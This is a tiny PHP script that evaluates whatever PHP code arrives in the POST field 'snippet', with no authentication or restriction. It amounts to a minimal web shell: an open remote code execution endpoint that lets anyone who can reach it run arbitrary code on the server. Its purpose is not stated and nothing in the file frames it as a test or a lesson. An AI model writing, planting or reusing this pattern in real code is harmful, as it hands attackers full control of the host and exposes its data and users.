<?php
if (isset($_POST['snippet'])) {
    eval("?>$_POST[snippet]<?php ");
}
